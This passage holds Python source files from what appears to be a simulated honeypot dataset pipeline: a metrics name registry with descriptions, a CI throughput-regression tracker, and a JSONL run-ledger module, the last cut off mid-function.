        "rng.streams_created": "named deterministic rng streams minted",
        "rng.draws": "random draws taken across all named streams",
        "engine.events_scheduled": "events pushed onto the simulation heap",
        "engine.events_dispatched": "events popped and dispatched in time order",
        "engine.events_cancelled": "scheduled events cancelled before dispatch",
        "honeypot.sessions_accepted": "connections the honeypots accepted",
        "honeypot.sessions_refused": "connections refused at the listener",
        "honeypot.auth_attempts": "login attempts observed across sessions",
        "honeypot.hashes_recorded": "payload hashes recorded by the pots",
        "honeypot.sessions.*": "sessions finished, per session category",
        "honeypot.timeouts.*": "sessions timed out, per timeout reason",
        "store.sessions_appended": "session rows appended to a store",
        "store.blocks_appended": "column blocks appended to a store",
        "store.adopts": "whole-store adoptions during merges",
        "store.adopts_fastpath": "adoptions served by the frozen fast path",
        "store.sessions_adopted": "session rows adopted during merges",
        "store.freezes": "stores frozen to columnar form",
        "store.npz_saves": "stores persisted as npz archives",
        "store.npz_saved_sessions": "session rows persisted to npz",
        "store.npz_loads": "npz archives loaded back into stores",
        "store.npz_loaded_sessions": "session rows loaded from npz",
        "cache.hits": "dataset cache lookups served from disk",
        "cache.misses": "dataset cache lookups that generated instead",
        "cache.stores": "datasets written into the cache",
        "cache.corrupt_entries": "cache entries dropped as unreadable",
        "cache.loaded_sessions": "session rows loaded from cache hits",
        "generator.sessions.*": "sessions generated, per category",
        "generator.days.*": "active generation days, per category",
        "generator.spike_sessions.*": "spike-day sessions, per category",
        "generator.campaigns_realized": "campaigns realised after scaling",
        "generator.campaign_days": "campaign active days generated",
        "generator.campaign_sessions": "sessions attributed to campaigns",
        "shards.emitted": "shard tasks emitted by workers",
        "shards.sessions.*": "sessions emitted, per shard kind",
        "context.*": "analysis context cache property hits and misses",
        "farm.alerts.*": "farm-health alerts raised, per alert kind",
        "sched.tasks_submitted": "task attempts submitted to a backend",
        "sched.tasks_completed": "task attempts completed successfully",
        "sched.tasks_retried": "task attempts re-queued after an error",
        "sched.duplicates_dropped": "late duplicate task results dropped",
        "sched.stragglers_requeued": "straggling tasks duplicated",
        "sched.workers_grown": "elastic pool grow operations",
        "sched.workers_shrunk": "elastic pool shrink operations",
        "sketch.sessions_observed": "sessions folded into the sketches",
        "sketch.events_consumed": "trace events consumed by the sketches",
        "sketch.store_sessions_ingested": "store rows ingested by the sketches",
        "sketch.merges": "sketch registries merged",
        "emit.block.buffered_blocks": "session blocks buffered before flush",
        "emit.block.buffered_rows": "session rows buffered before flush",
        "emit.block.flushes": "block-engine flushes to the store",
        "emit.block.rows": "session rows written by the block engine",
        "sched.heartbeat.*": "worker heartbeats received / stale episodes",
        "ledger.*": "run-ledger rows, alerts and files recorded",
    },
    "gauge": {
        "engine.heap_depth_max": "peak simulation event-heap depth",
        "shards.count": "shards in the generation plan",
        "shards.workers": "worker processes requested for the run",
        "shards.queue_wait_seconds": "estimated shard queue-wait wall seconds",
        "store.npz_save_bytes_per_second": "npz save throughput",
        "store.npz_load_bytes_per_second": "npz load throughput",
        "sched.arrival_rate": "work-trace Poisson arrival rate (tasks/s)",
        "sched.trace_makespan_virtual": "virtual makespan of the work trace",
        "sched.workers_peak": "peak live worker count",
        "sched.backlog_peak": "peak outstanding task count",
        "sched.heartbeat.rss_kb_peak": "peak worker RSS reported by heartbeats",
        "sketch.unique.*": "streaming cardinality estimates",
    },
    "histogram": {
        "store.adopt_seconds": "per-store adoption wall seconds",
        "store.freeze_seconds": "per-store freeze wall seconds",
        "store.npz_save_seconds": "per-archive npz save wall seconds",
        "store.npz_load_seconds": "per-archive npz load wall seconds",
        "shards.sessions_per_shard": "sessions emitted per shard",
        "farm.sessions_per_interval": "live-farm sessions per drift interval",
        "farm.mix.*": "per-interval session-category share",
        "sched.task_queue_seconds": "per-task wait between submit and run",
        "sched.task_run_seconds": "per-task worker-side execution wall",
        "sched.task_merge_seconds": "per-task store merge wall seconds",
        "resource.*": "per-task worker resource telemetry",
    },
    "span": {
        "generate": "whole-generation stage",
        "plan": "shard planning stage",
        "emit": "shard emission stage",
        "merge": "shard store merge stage",
        "day_buckets": "per-day session bucketing stage",
        "campaigns": "campaign realisation stage",
        "singletons": "singleton session stage",
        "background": "background traffic stage",
        "freeze": "store freeze stage",
        "shard/*": "worker-side per-shard emission",
        "sched/trace": "work-trace build/replay stage",
        "cache/load": "dataset cache load stage",
        "cache/save": "dataset cache store stage",
        "store/save_npz": "npz persistence stage",
        "store/load_npz": "npz load stage",
        "store/merge": "store merge stage",
        "validate": "calibration validation stage",
        "report": "summary report stage",
        "intermediates": "intermediate table stage",
        "tables_4_5_6": "hash table computation stage",
        "sketch/ingest": "streaming sketch ingest stage",
        "emit.block.flush": "block-engine flush stage",
    },
    "trace": {
        "generator.block": "bulk emission block boundary",
        "generate.merged": "final store merge completed",
        "shard.emit": "one shard emitted by a worker",
        "sched.trace.built": "work trace built or replayed",
        "sched.task.submit": "task attempt submitted to the backend",
        "sched.task.done": "task attempt completed",
        "sched.task.retry": "task attempt re-queued after an error",
        "sched.heartbeat.*": "worker heartbeat / stale-worker episode",
        "engine.dispatch": "simulation event dispatched",
        "engine.cancel": "simulation event cancelled",
        "collector.summary": "collector interval summary",
        "collector.merge": "collector results merged",
        "honeypot.refused": "connection refused at the listener",
        "honeypot.session.connect": "session connected",
        "honeypot.client.version": "client version exchanged",
        "honeypot.login.success": "login succeeded",
        "honeypot.login.failed": "login failed",
        "honeypot.command.input": "command entered",
        "honeypot.command.failed": "command rejected",
        "honeypot.session.file_download": "file downloaded in session",
        "honeypot.session.file_upload": "file uploaded in session",
        "honeypot.session.file_created": "file created in session",
        "honeypot.session.file_modified": "file modified in session",
        "honeypot.session.closed": "session closed",
    },
}


def describe(family: str, name: str) -> str:
    """The declared help text for ``name`` in ``family`` ("" = undeclared).

    Exact declarations win; otherwise the first ``*`` pattern matching
    ``name`` supplies the family-level description.
    """
    table = DESCRIPTIONS.get(family, {})
    exact = table.get(name)
    if exact is not None:
        return exact
    for pattern, text in table.items():
        if "*" in pattern and fnmatchcase(name, pattern):
            return text
    return ""


def is_declared(name: str, patterns: Tuple[str, ...]) -> bool:
    """True when ``name`` matches a declaration (exact or ``*`` pattern)."""
    for pattern in patterns:
        if "*" in pattern:
            if fnmatchcase(name, pattern):
                return True
        elif name == pattern:
            return True
    return False


def prefix_may_match(head: str, patterns: Tuple[str, ...]) -> bool:
    """Could a name starting with literal ``head`` match a declaration?

    This is the static check for dynamic names (f-strings): only the
    literal head is known, so ``head`` is compared against each pattern's
    literal prefix (the part before its first ``*``).  Exact declarations
    match when they start with ``head``.
    """
    for pattern in patterns:
        star = pattern.find("*")
        literal = pattern if star < 0 else pattern[:star]
        if star < 0:
            if pattern.startswith(head):
                return True
        elif head.startswith(literal) or literal.startswith(head):
            return True
    return False
