"""The declared instrument-name registry.

Every metric counter, gauge, histogram, span path and trace-event kind the
pipeline emits is declared here, in one place.  ``Metrics`` itself is
schema-free (any string names a counter), which is what makes ``merge``
associative — but it also means a typo at one call site silently forks a
metric into two series that ``Metrics.merge`` will happily fold apart.
The ``registry-names`` lint rule (:mod:`repro.lint`) closes that hole
statically: a literal name at an ``inc`` / ``observe`` / ``gauge_set`` /
``span`` / trace ``emit`` call site must match a declaration below, where
a trailing ``.*`` (or embedded ``*``) declares a dynamic family whose
suffix is computed at runtime (``farm.alerts.<kind>``).

Adding an instrument is therefore a two-line change: the call site and
the declaration.  The declaration doubles as documentation — this module
is the one answer to "what can appear in a metrics dump?".
"""

from __future__ import annotations

from fnmatch import fnmatchcase
from typing import Tuple

#: Monotonic counters (``Metrics.inc`` / ``repro.obs.inc``).
COUNTERS: Tuple[str, ...] = (
    "rng.streams_created",
    "rng.draws",
    "engine.events_scheduled",
    "engine.events_dispatched",
    "engine.events_cancelled",
    "honeypot.sessions_accepted",
    "honeypot.sessions_refused",
    "honeypot.auth_attempts",
    "honeypot.hashes_recorded",
    "honeypot.sessions.*",   # per session category
    "honeypot.timeouts.*",   # per timeout reason
    "store.sessions_appended",
    "store.blocks_appended",
    "store.adopts",
    "store.adopts_fastpath",
    "store.sessions_adopted",
    "store.freezes",
    "store.npz_saves",
    "store.npz_saved_sessions",
    "store.npz_loads",
    "store.npz_loaded_sessions",
    "cache.hits",
    "cache.misses",
    "cache.stores",
    "cache.corrupt_entries",
    "cache.loaded_sessions",
    "generator.sessions.*",       # per category / "singletons"
    "generator.days.*",           # per category
    "generator.spike_sessions.*",  # per category
    "generator.campaigns_realized",
    "generator.campaign_days",
    "generator.campaign_sessions",
    "shards.emitted",
    "shards.sessions.*",  # per shard kind
    "context.*",          # per-property hit/miss + aggregate hits/misses
    "farm.alerts.*",      # per alert kind
    # Scheduler accounting (repro.sched).  Physical-scheduling counters:
    # retries, stragglers and pool resizes legitimately vary with the
    # backend and worker count — only task totals are invariant.
    "sched.tasks_submitted",
    "sched.tasks_completed",
    "sched.tasks_retried",
    "sched.duplicates_dropped",
    "sched.stragglers_requeued",
    "sched.workers_grown",
    "sched.workers_shrunk",
    # Streaming sketch analytics (repro.analytics).
    "sketch.sessions_observed",
    "sketch.events_consumed",
    "sketch.store_sessions_ingested",
    "sketch.merges",
    # Block session engine (repro.workload.blocks).
    "emit.block.buffered_blocks",
    "emit.block.buffered_rows",
    "emit.block.flushes",
    "emit.block.rows",
)

#: Gauges (``gauge_set`` — last value; ``gauge_max`` — high-water mark).
GAUGES: Tuple[str, ...] = (
    "engine.heap_depth_max",
    "shards.count",
    "shards.workers",
    "shards.queue_wait_seconds",
    "store.npz_save_bytes_per_second",
    "store.npz_load_bytes_per_second",
    "sched.arrival_rate",
    "sched.trace_makespan_virtual",
    "sched.workers_peak",
    "sched.backlog_peak",
    "sketch.unique.*",  # streaming cardinality estimates (clients, hashes)
)

#: Histograms (``observe`` / ``histogram`` / ``timer``).
HISTOGRAMS: Tuple[str, ...] = (
    "store.adopt_seconds",
    "store.freeze_seconds",
    "store.npz_save_seconds",
    "store.npz_load_seconds",
    "shards.sessions_per_shard",
    "farm.sessions_per_interval",
    "farm.mix.*",  # per session category share
    "sched.task_queue_seconds",
    "sched.task_run_seconds",
    "sched.task_merge_seconds",
)

#: Span path components as written at ``Metrics.span`` call sites.  Nested
#: spans build slash-joined paths at runtime ("generate/emit/shard/bg_cmd");
#: what is declared here is the literal each call site passes.
SPANS: Tuple[str, ...] = (
    "generate",
    "plan",
    "emit",
    "merge",
    "day_buckets",
    "campaigns",
    "singletons",
    "background",
    "freeze",
    "shard/*",  # per shard kind (worker-side)
    "sched/trace",
    "cache/load",
    "cache/save",
    "store/save_npz",
    "store/load_npz",
    "store/merge",
    "validate",
    "report",
    "intermediates",
    "tables_4_5_6",
    "sketch/ingest",
    "emit.block.flush",
)

#: Flight-recorder event kinds (``repro.obs.trace.emit`` and
#: :class:`Tracer`.emit).  The honeypot session kinds mirror
#: :class:`repro.honeypot.events.EventType` values one-for-one — a unit
#: test keeps the two in sync.
TRACE_KINDS: Tuple[str, ...] = (
    "generator.block",
    "generate.merged",
    "shard.emit",
    "sched.trace.built",
    "sched.task.submit",
    "sched.task.done",
    "sched.task.retry",
    "engine.dispatch",
    "engine.cancel",
    "collector.summary",
    "collector.merge",
    "honeypot.refused",
    "honeypot.session.connect",
    "honeypot.client.version",
    "honeypot.login.success",
    "honeypot.login.failed",
    "honeypot.command.input",
    "honeypot.command.failed",
    "honeypot.session.file_download",
    "honeypot.session.file_upload",
    "honeypot.session.file_created",
    "honeypot.session.file_modified",
    "honeypot.session.closed",
)

#: Instrument family -> declared name tuple (the lint rule's lookup table).
FAMILIES = {
    "counter": COUNTERS,
    "gauge": GAUGES,
    "histogram": HISTOGRAMS,
    "span": SPANS,
    "trace": TRACE_KINDS,
}


def is_declared(name: str, patterns: Tuple[str, ...]) -> bool:
    """True when ``name`` matches a declaration (exact or ``*`` pattern)."""
    for pattern in patterns:
        if "*" in pattern:
            if fnmatchcase(name, pattern):
                return True
        elif name == pattern:
            return True
    return False


def prefix_may_match(head: str, patterns: Tuple[str, ...]) -> bool:
    """Could a name starting with literal ``head`` match a declaration?

    This is the static check for dynamic names (f-strings): only the
    literal head is known, so ``head`` is compared against each pattern's
    literal prefix (the part before its first ``*``).  Exact declarations
    match when they start with ``head``.
    """
    for pattern in patterns:
        star = pattern.find("*")
        literal = pattern if star < 0 else pattern[:star]
        if star < 0:
            if pattern.startswith(head):
                return True
        elif head.startswith(literal) or literal.startswith(head):
            return True
    return False
