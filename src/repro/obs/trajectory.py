"""The benchmark trajectory: persisted perf history across CI runs.

Each CI run appends one record — commit, generation throughput
(sessions/sec), and the per-stage span seconds — to a JSON-array file
(``BENCH_trajectory.json`` at the repository root), turning one-off
``--metrics`` dumps into a trajectory reviewers can diff.  The companion
regression check fails CI when generation throughput drops more than a
threshold vs the last recorded run.

Usable three ways: as a library (``append_record`` / ``check_regression``),
from the benchmark harness (``benchmarks/conftest.py`` appends when
``REPRO_BENCH_TRAJECTORY`` names a file), and as a CLI from ``scripts/ci.sh``::

    python -m repro.obs.trajectory --metrics metrics.json \
        --out BENCH_trajectory.json --fail-threshold 0.2
"""

from __future__ import annotations

import json
import subprocess
import time
from pathlib import Path
from typing import Dict, List, Optional, Tuple

#: Span paths whose wall seconds are persisted per record (with any of
#: their direct children); everything else is noise at trajectory scale.
STAGE_ROOTS = ("generate", "report", "validate", "tables", "sketch")


def current_commit() -> str:
    """The current short commit hash, or "unknown" outside a checkout."""
    try:
        out = subprocess.run(
            ["git", "rev-parse", "--short", "HEAD"],
            capture_output=True, text=True, timeout=10,
        )
        if out.returncode == 0:
            return out.stdout.strip()
    except (OSError, subprocess.SubprocessError):
        pass
    return "unknown"


def sessions_per_second(metrics: Dict) -> Optional[float]:
    """Generation throughput from a registry dict (None if it never ran)."""
    sessions = metrics.get("counters", {}).get("store.sessions_appended", 0)
    wall = metrics.get("spans", {}).get("generate", {}).get("wall", 0.0)
    if not sessions or wall <= 0:
        return None
    return float(sessions) / float(wall)


def streaming_events_per_second(metrics: Dict) -> Optional[float]:
    """Streaming-analytics ingest throughput (None if it never ran).

    Events consumed by :class:`repro.analytics.StreamingAnalytics` over
    the wall seconds spent under the top-level ``sketch/ingest`` span.
    """
    events = metrics.get("counters", {}).get("sketch.events_consumed", 0)
    wall = metrics.get("spans", {}).get("sketch/ingest", {}).get("wall", 0.0)
    if not events or wall <= 0:
        return None
    return float(events) / float(wall)


def stage_seconds(metrics: Dict) -> Dict[str, float]:
    """Wall seconds of the pipeline stages (roots and their children)."""
    out: Dict[str, float] = {}
    for path, cell in metrics.get("spans", {}).items():
        parts = path.split("/")
        if parts[0] in STAGE_ROOTS and len(parts) <= 2:
            out[path] = round(float(cell.get("wall", 0.0)), 6)
    return out


def load_trajectory(path) -> List[Dict]:
    """Records recorded so far (empty when the file does not exist yet)."""
    p = Path(path)
    if not p.exists():
        return []
    with open(p, "r", encoding="utf-8") as fh:
        data = json.load(fh)
    if not isinstance(data, list):
        raise ValueError(f"{path}: trajectory file is not a JSON array")
    return data


def append_record(
    path,
    metrics: Dict,
    commit: Optional[str] = None,
    context: Optional[Dict] = None,
) -> Dict:
    """Append one trajectory record built from a registry dict.

    Returns the record.  ``context`` carries run parameters worth pinning
    (scale, workers) so later records are comparable for what they claim.
    """
    record = {
        "commit": commit if commit is not None else current_commit(),
        "timestamp": time.strftime("%Y-%m-%dT%H:%M:%S%z"),
        "sessions_per_second": sessions_per_second(metrics),
        "sessions": metrics.get("counters", {}).get(
            "store.sessions_appended", 0),
        "stage_seconds": stage_seconds(metrics),
    }
    measures = [] if record["sessions_per_second"] is None \
        else ["sessions_per_second"]
    streaming = streaming_events_per_second(metrics)
    if streaming is not None:
        record["streaming_events_per_second"] = streaming
        measures.append("streaming_events_per_second")
    # Label what this run actually measured, so a reader (or the gate)
    # never mistakes a streaming-only row for a generation row.
    record["measures"] = measures
    if context:
        record["context"] = dict(context)
    records = load_trajectory(path)
    records.append(record)
    with open(path, "w", encoding="utf-8") as fh:
        json.dump(records, fh, indent=2, sort_keys=True)
        fh.write("\n")
    return record


#: Context keys that make two records comparable.  Records written before
#: the block engine existed carry no ``emit_path`` — they all ran the
#: scalar path, so a missing value reads as "scalar".
COMPARISON_KEYS = ("scale", "workers", "backend", "emit_path")

_CONTEXT_DEFAULTS = {"emit_path": "scalar"}


def comparison_key(record: Dict) -> Tuple[str, ...]:
    """The context tuple under which a record's throughput is comparable."""
    ctx = record.get("context") or {}
    return tuple(
        str(ctx.get(key, _CONTEXT_DEFAULTS.get(key, "")))
        for key in COMPARISON_KEYS
    )


def check_regression(
    records: List[Dict], threshold: float = 0.2
) -> Optional[str]:
    """A failure message when the newest run regressed vs its predecessor.

    Compares generation throughput (sessions/sec) of the last record
    against the most recent earlier record that measured it *under the
    same context* (scale, workers, backend, emit path — see
    :func:`comparison_key`); a drop of more than ``threshold`` (fraction)
    is a regression.  Records measured under a different context — a new
    scale, the other emit path — start their own comparison series, so a
    scalar-reference row can never gate a block-path row or vice versa.
    Returns None when there is nothing to compare or throughput held up.
    """
    measured = [r for r in records if r.get("sessions_per_second")]
    if not measured:
        return None
    last = measured[-1]
    key = comparison_key(last)
    earlier = [r for r in measured[:-1] if comparison_key(r) == key]
    if not earlier:
        return None
    prev = earlier[-1]
    before = float(prev["sessions_per_second"])
    after = float(last["sessions_per_second"])
    if after < before * (1.0 - threshold):
        return (
            f"generation throughput regressed "
            f"{(1 - after / before):.1%} (> {threshold:.0%}) "
            f"under context {dict(zip(COMPARISON_KEYS, key))}: "
            f"{before:,.0f} -> {after:,.0f} sessions/sec "
            f"({prev.get('commit')} -> {last.get('commit')})"
        )
    return None


def main(argv=None) -> int:
    import argparse

    parser = argparse.ArgumentParser(
        prog="repro.obs.trajectory",
        description="append a benchmark-trajectory record from a "
                    "--metrics JSON dump and check for throughput regressions",
    )
    parser.add_argument("--metrics", required=True,
                        help="registry JSON written by --metrics PATH")
    parser.add_argument("--out", default="BENCH_trajectory.json",
                        help="trajectory file to append to")
    parser.add_argument("--commit", default=None,
                        help="commit id to record (default: git rev-parse)")
    parser.add_argument("--context", action="append", default=[],
                        metavar="KEY=VALUE",
                        help="run parameter to pin on the record (repeatable)")
    parser.add_argument("--fail-threshold", type=float, default=None,
                        metavar="FRACTION",
                        help="exit 1 when sessions/sec dropped more than "
                             "FRACTION vs the previous record (e.g. 0.2)")
    args = parser.parse_args(argv)

    with open(args.metrics, "r", encoding="utf-8") as fh:
        metrics = json.load(fh)
    context = {}
    for item in args.context:
        key, _, value = item.partition("=")
        context[key] = value
    record = append_record(args.out, metrics,
                           commit=args.commit, context=context or None)
    sps = record["sessions_per_second"]
    print(f"trajectory: {record['commit']} "
          f"{sps:,.0f} sessions/sec" if sps else
          f"trajectory: {record['commit']} (no generation this run)")
    if args.fail_threshold is not None:
        message = check_regression(load_trajectory(args.out),
                                   args.fail_threshold)
        if message:
            print(f"REGRESSION: {message}")
            return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
