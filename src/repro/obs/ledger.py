"""The run ledger: a versioned, append-only JSONL manifest of one run.

Fifteen unattended months only produce a defensible dataset if every
collection window leaves a durable record of what ran, where, under
which configuration, at what cost — the paper's operators could answer
those questions after the fact, and so can this pipeline.  A ledger file
is one JSON object per line, in canonical record order::

    {"record": "ledger", "version": 1, ...}        # header, always first
    {"record": "run", "kind": "generate", ...}     # config fingerprint
    {"record": "env", "python": "3.11.x", ...}     # environment snapshot
    {"record": "sched", "tasks": 52, ...}          # scheduler context
    {"record": "stage", "path": "generate", ...}   # span rollups (sorted)
    {"record": "task", "index": 0, ...}            # one row per ShardTask
    {"record": "heartbeat", ...}                   # worker liveness trail
    {"record": "alert", ...}                       # operational alerts
    {"record": "artifact", "sha256": ...}          # written files
    {"record": "final", "store_sha256": ...}       # always last

**Fold discipline** mirrors ``Metrics.merge``: task rows are keyed by
task index (a retry overwrites its earlier attempt's row) and written in
index order, stage rollups sort by span path — so a workers=1 ledger and
a workers=2 ledger of the same config are *identical* modulo the
declared-volatile fields (:data:`VOLATILE_FIELDS`: who ran it, physical
timings, pids) and the heartbeat trail (:data:`VOLATILE_RECORDS`).
:func:`strip_volatile_records` applies the declaration;
:func:`validate_ledger` checks the schema.  CI asserts both.

The module-global seam (:func:`get_ledger` / :func:`use_ledger`) follows
:mod:`repro.obs.metrics`: ``None`` means no ledger, and every hook in
the pipeline is a single ``None`` check — the steady state costs
nothing.
"""

from __future__ import annotations

import hashlib
import json
import os
import platform
import sys
import time
from contextlib import contextmanager
from pathlib import Path
from typing import Any, Dict, Iterator, List, Optional, Sequence

from repro.obs.metrics import get_metrics

#: Ledger schema version (the header record pins it).
LEDGER_VERSION = 1

#: Every record type, in canonical file order.
RECORD_TYPES = (
    "ledger",
    "run",
    "env",
    "sched",
    "stage",
    "task",
    "heartbeat",
    "alert",
    "artifact",
    "final",
)

#: Record types dropped wholesale by :func:`strip_volatile_records`:
#: the heartbeat trail is pure physical liveness — its length and
#: content depend on worker count and timing by construction.
VOLATILE_RECORDS = frozenset({"heartbeat"})

#: Per-record-type fields that legitimately vary between two runs of the
#: same config (who ran it, physical timings, process identity).  What
#: remains after stripping is the run's *logical* identity and must be
#: byte-identical across backends and worker counts.
VOLATILE_FIELDS: Dict[str, frozenset] = {
    "ledger": frozenset({"created_wall"}),
    "run": frozenset({"backend", "workers"}),
    "env": frozenset({"pid", "cwd", "argv", "hostname"}),
    "sched": frozenset({"backend", "workers"}),
    "stage": frozenset({"wall", "cpu"}),
    "task": frozenset({
        "attempt", "worker", "run_seconds", "queue_seconds",
        "telemetry_version", "wall_seconds", "cpu_seconds",
        "cpu_user_seconds", "cpu_system_seconds", "max_rss_kb",
        "gc_collections", "gc_pause_seconds", "tracemalloc_peak_kb",
    }),
    "alert": frozenset(),
    "artifact": frozenset({"path"}),
    "final": frozenset({"wall_seconds", "alerts", "heartbeats",
                        "cache_hit"}),
}

#: Required fields (and their types) per record type, for validation.
_REQUIRED: Dict[str, Dict[str, tuple]] = {
    "ledger": {"version": (int,)},
    "run": {"kind": (str,)},
    "env": {"python": (str,)},
    "sched": {"tasks": (int,)},
    "stage": {"path": (str,), "count": (int,)},
    "task": {"index": (int,), "kind": (str,), "key": (str,),
             "sessions": (int,)},
    "heartbeat": {"worker": (str,), "beat": (int,)},
    "alert": {"kind": (str,), "message": (str,)},
    "artifact": {"name": (str,), "sha256": (str,)},
    "final": {"status": (str,)},
}


def sha256_file(path) -> str:
    """sha256 hex digest of a file's bytes (artifact fingerprinting)."""
    digest = hashlib.sha256()
    with open(path, "rb") as fh:
        for chunk in iter(lambda: fh.read(1 << 20), b""):
            digest.update(chunk)
    return digest.hexdigest()


def _environment_snapshot() -> Dict[str, Any]:
    return {
        "record": "env",
        "python": platform.python_version(),
        "implementation": platform.python_implementation(),
        "platform": sys.platform,
        "machine": platform.machine(),
        "numpy": _numpy_version(),
        "pid": os.getpid(),
        "cwd": os.getcwd(),
        "hostname": platform.node(),
    }


def _numpy_version() -> Optional[str]:
    try:
        import numpy
    except ImportError:  # pragma: no cover - numpy is a core dependency
        return None
    return numpy.__version__


class RunLedger:
    """Accumulates one run's manifest; writes it in canonical order.

    Hooks throughout the pipeline call the ``record_*`` / ``begin_run``
    methods (through :func:`get_ledger`, so a run without a ledger pays
    one ``None`` check); :meth:`write_jsonl` assembles and persists the
    file.  Assembly, not arrival, defines the order — which is what
    makes the output worker-count-invariant modulo declared-volatile
    fields.
    """

    def __init__(self) -> None:
        self._run: Optional[Dict[str, Any]] = None
        self._sched: Optional[Dict[str, Any]] = None
        self._tasks: Dict[int, Dict[str, Any]] = {}
        self._heartbeats: List[Dict[str, Any]] = []
        self._alerts: List[Dict[str, Any]] = []
        self._artifacts: List[Dict[str, Any]] = []
        self._stages: List[Dict[str, Any]] = []
        self._store: Optional[Dict[str, Any]] = None
        self._final: Optional[Dict[str, Any]] = None
        self._created_wall = time.time()
        self._start = time.perf_counter()

    # -- run identity ----------------------------------------------------------

    def begin_run(self, kind: str, *, config=None,
                  fingerprint: Optional[str] = None,
                  backend: Optional[str] = None,
                  workers: Optional[int] = None,
                  **extra: Any) -> None:
        """Open (or enrich) the run record.

        The first call pins ``kind`` (the CLI wraps the whole command, so
        its name wins over the library entry point's); later calls only
        fill fields still absent — ``repro report`` generating a dataset
        enriches the run record with the generate fingerprint rather than
        forking a second record.
        """
        if self._run is None:
            self._run = {"record": "run", "kind": str(kind)}
        fields: Dict[str, Any] = dict(extra)
        if config is not None:
            import dataclasses

            fields["config"] = dataclasses.asdict(config)
        if fingerprint is not None:
            fields["fingerprint"] = fingerprint
        if backend is not None:
            fields["backend"] = backend
        if workers is not None:
            fields["workers"] = int(workers)
        for key, value in fields.items():
            self._run.setdefault(key, value)

    # -- recording -------------------------------------------------------------

    def record_sched(self, *, backend: str, workers: int, tasks: int,
                     lam: float, makespan_virtual: float) -> None:
        """The scheduler context: trace size + arrival model + executor."""
        self._sched = {
            "record": "sched",
            "tasks": int(tasks),
            "lam": float(lam),
            "makespan_virtual": float(makespan_virtual),
            "backend": str(backend),
            "workers": int(workers),
        }

    def record_task(self, task, *, sessions: int, attempt: int, worker: str,
                    run_seconds: float, queue_seconds: float,
                    telemetry: Optional[Dict[str, Any]] = None) -> None:
        """One completed :class:`~repro.sched.trace.ShardTask` attempt.

        Keyed by task index — a straggler duplicate or retry overwrites
        the earlier row, so exactly one row per task survives and rows
        assemble in index order regardless of completion order.
        """
        row: Dict[str, Any] = {
            "record": "task",
            "index": int(task.index),
            "kind": str(task.kind),
            "key": str(task.key),
            "start": int(task.start),
            "stop": int(task.stop),
            "sessions": int(sessions),
            "attempt": int(attempt),
            "worker": str(worker),
            "run_seconds": float(run_seconds),
            "queue_seconds": float(queue_seconds),
        }
        if telemetry:
            for key, value in telemetry.items():
                row.setdefault(key, value)
        self._tasks[row["index"]] = row
        get_metrics().inc("ledger.tasks")

    def record_heartbeat(self, payload: Dict[str, Any]) -> None:
        self._heartbeats.append(dict(payload, record="heartbeat"))

    def record_alert(self, kind: str, message: str, *,
                     time: Optional[float] = None,
                     honeypot_id: Optional[str] = None,
                     **data: Any) -> None:
        """One operational alert (farm health, stale worker, ...)."""
        record: Dict[str, Any] = {
            "record": "alert",
            "kind": str(kind),
            "message": str(message),
        }
        if time is not None:
            record["time"] = float(time)
        if honeypot_id is not None:
            record["honeypot_id"] = honeypot_id
        if data:
            record["data"] = data
        self._alerts.append(record)
        get_metrics().inc("ledger.alerts")

    def record_artifact(self, name: str, path, sha256: str) -> None:
        """A file the run wrote, with its content digest."""
        self._artifacts.append({
            "record": "artifact",
            "name": str(name),
            "path": str(path),
            "sha256": str(sha256),
        })

    def record_store(self, sha256: str, sessions: int,
                     cache_hit: bool = False) -> None:
        """The final merged store's identity (digest + session count)."""
        self._store = {"store_sha256": str(sha256),
                       "sessions": int(sessions)}
        if cache_hit:
            self._store["cache_hit"] = True

    def record_stages(self, metrics) -> None:
        """Span rollups from a metrics registry, sorted by span path."""
        self._stages = [
            {
                "record": "stage",
                "path": path,
                "count": int(cell["count"]),
                "wall": float(cell["wall"]),
                "cpu": float(cell["cpu"]),
            }
            for path, cell in sorted(metrics.spans.items())
        ]

    def finish(self, status: str = "ok") -> None:
        """Close the ledger with the final summary record."""
        self._final = {
            "record": "final",
            "status": str(status),
            "tasks": len(self._tasks),
            "alerts": len(self._alerts),
            "heartbeats": len(self._heartbeats),
            "wall_seconds": time.perf_counter() - self._start,
        }
        if self._store:
            self._final.update(self._store)

    # -- assembly --------------------------------------------------------------

    def to_records(self) -> List[Dict[str, Any]]:
        """The manifest in canonical order (see the module docstring)."""
        records: List[Dict[str, Any]] = [{
            "record": "ledger",
            "version": LEDGER_VERSION,
            "created_wall": self._created_wall,
        }]
        if self._run is not None:
            records.append(self._run)
        records.append(_environment_snapshot())
        if self._sched is not None:
            records.append(self._sched)
        records.extend(self._stages)
        records.extend(self._tasks[i] for i in sorted(self._tasks))
        records.extend(self._heartbeats)
        records.extend(self._alerts)
        records.extend(self._artifacts)
        if self._final is not None:
            records.append(self._final)
        return records

    def write_jsonl(self, path) -> int:
        """Write the manifest as JSON lines; returns the record count."""
        records = self.to_records()
        target = Path(path)
        if target.parent != Path(""):
            target.parent.mkdir(parents=True, exist_ok=True)
        with open(target, "w", encoding="utf-8") as fh:
            for record in records:
                fh.write(json.dumps(record, sort_keys=True) + "\n")
        get_metrics().inc("ledger.writes")
        get_metrics().inc("ledger.records", len(records))
        return len(records)


def read_ledger_jsonl(path) -> List[Dict[str, Any]]:
    """Read a ledger previously written by :meth:`RunLedger.write_jsonl`."""
    records: List[Dict[str, Any]] = []
    with open(path, "r", encoding="utf-8") as fh:
        for line in fh:
            line = line.strip()
            if line:
                records.append(json.loads(line))
    return records


def strip_volatile_records(
    records: Sequence[Dict[str, Any]],
) -> List[Dict[str, Any]]:
    """Records minus volatile record types and fields.

    What remains is the run's logical identity: two runs of the same
    config must strip to byte-identical lists whatever backend, worker
    count or machine executed them — the ledger's worker-count-invariance
    contract, checked in CI next to the store-digest identity.
    """
    out: List[Dict[str, Any]] = []
    for record in records:
        rtype = record.get("record")
        if rtype in VOLATILE_RECORDS:
            continue
        drop = VOLATILE_FIELDS.get(rtype, frozenset())
        out.append({k: v for k, v in record.items() if k not in drop})
    return out


def validate_ledger(records: Sequence[Dict[str, Any]]) -> List[str]:
    """Check a ledger against schema v1; returns problem strings.

    Checks: header first with a supported version, every record typed
    and carrying its required fields, at most one run/env/sched/final
    record, task rows unique and in index order, final record last.
    An empty return value means the ledger is schema-valid.
    """
    problems: List[str] = []
    if not records:
        return ["empty ledger (no header record)"]
    head = records[0]
    if not isinstance(head, dict) or head.get("record") != "ledger":
        problems.append("record 0: expected the 'ledger' header first")
